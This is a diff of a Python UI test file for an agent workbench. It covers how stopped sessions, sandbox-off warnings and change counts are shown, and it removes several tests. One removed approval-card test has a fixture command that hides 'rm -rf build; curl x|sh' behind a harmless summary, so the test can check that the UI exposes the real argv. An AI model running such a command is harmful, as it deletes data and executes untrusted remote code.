@@ -1,12 +1,12 @@
-"""Fixes from a manual run: keys to a stopped session, toast storms, j/k in the list,
-sessions without a sandbox in red, no git in the UI."""
+"""How the UI shows a session's state and acts on it: keys to a stopped session are refused
+with one inline notice (no toast per key), attaching to one says so in its pane, a session
+without a sandbox is red in the list, the pane title and the status bar, check labels, and the
+list's change counts come from the session description (no diff call)."""
 
 from __future__ import annotations
 
-from pathlib import Path
-
 from tests.test_ui_app import SIZE, calls, started, sync
-from tests.test_ui_fakes import HarnessApp, sample_sessions, session
+from tests.ui_fakes import HarnessApp, sample_sessions, session
 from workbench.ui import model
 from workbench.ui.messages import DaemonEvent
 from workbench.ui.widgets.session_list import entry
@@ -53,40 +53,6 @@ async def test_attach_to_a_stopped_session_says_so_in_the_pane() -> None:
         assert "■ stopped — r restarts it" in str(app.main.panes["s1"].notice.render())
 
 
-@sync
-async def test_identical_notifications_are_merged() -> None:
-    app = HarnessApp()
-    async with app.run_test(size=SIZE) as pilot:
-        await started(app, pilot)
-        app.notes.clear()
-        for _ in range(30):
-            app.notify("session x is not running", severity="error")
-        app.notify("something else")
-        assert app.notes == [("error", "session x is not running"), ("information", "something else")]
-        # and a burst of different ones is capped
-        for i in range(20):
-            app.notify(f"distinct {i}")
-        assert len(app.notes) <= 5
-
-
-@sync
-async def test_j_and_k_move_in_the_list_and_space_jumps_to_attention() -> None:
-    app = HarnessApp()
-    async with app.run_test(size=SIZE) as pilot:
-        await started(app, pilot)
-        assert app.layout.focus == "c3"
-        await pilot.press("j")
-        assert app.layout.focus == "a1"
-        await pilot.press("j")
-        assert app.layout.focus == "b2"
-        await pilot.press("k")
-        assert app.layout.focus == "a1"
-        app.main.show_session("b2")
-        await pilot.press("space")
-        await pilot.pause(0.1)
-        assert app.layout.focus == "a1"  # waiting first
-
-
 def test_sandbox_off_is_red_in_the_list_the_pane_title_and_the_status_bar() -> None:
     s = session("z", "risky", sandbox="off")
     safe = session("y", "safe", sandbox="workspace")
@@ -111,14 +77,6 @@ def test_keys_refused_and_check_labels() -> None:
     assert model.check_label(session("a", "a", check="none")) is None
 
 
-def test_the_ui_never_runs_git() -> None:
-    src = Path(__file__).parents[1] / "src" / "workbench" / "ui"
-    for path in src.rglob("*.py"):
-        text = path.read_text()
-        assert "create_subprocess" not in text and "subprocess" not in text, path
-        assert '"git"' not in text, path
-
-
 @sync
 async def test_session_descriptions_give_the_list_its_counts_without_a_diff_call() -> None:
     app = HarnessApp()
@@ -126,22 +84,3 @@ async def test_session_descriptions_give_the_list_its_counts_without_a_diff_call
         await started(app, pilot)
         assert "+37 -5" in str(app.main.session_list.get_option("a1").prompt)
         assert not calls(app, "diff")
-
-
-def test_transcript_labels_for_agent_and_usage_entries() -> None:
-    from workbench.ui.widgets.transcript import note_text
-
-    text, _ = note_text("agent", {"model": "m1", "approval": "suggest", "sandbox": "off"})
-    assert text == "agent: model m1 · approval suggest · sandbox off"
-    text, _ = note_text("usage", {"tokens_in": 10, "tokens_out": 2, "context_tokens": 12, "context_window": 100})
-    assert text == "tokens 10 in · 2 out · context 12/100"
-
-
-def test_approval_card_shows_the_exact_argv_when_the_summary_differs() -> None:
-    from workbench.ui.widgets.approval_card import card_content
-
-    same = card_content({"kind": "command", "describe": "cat calc.py", "argv": ["cat", "calc.py"]}).plain
-    assert "runs:" not in same and "$ cat calc.py" in same
-    wrapped = card_content({"kind": "command", "describe": "rm -rf build",
-                            "argv": ["bash", "-lc", "rm -rf build; curl x|sh"]}).plain
-    assert "runs: bash -lc 'rm -rf build; curl x|sh'" in wrapped
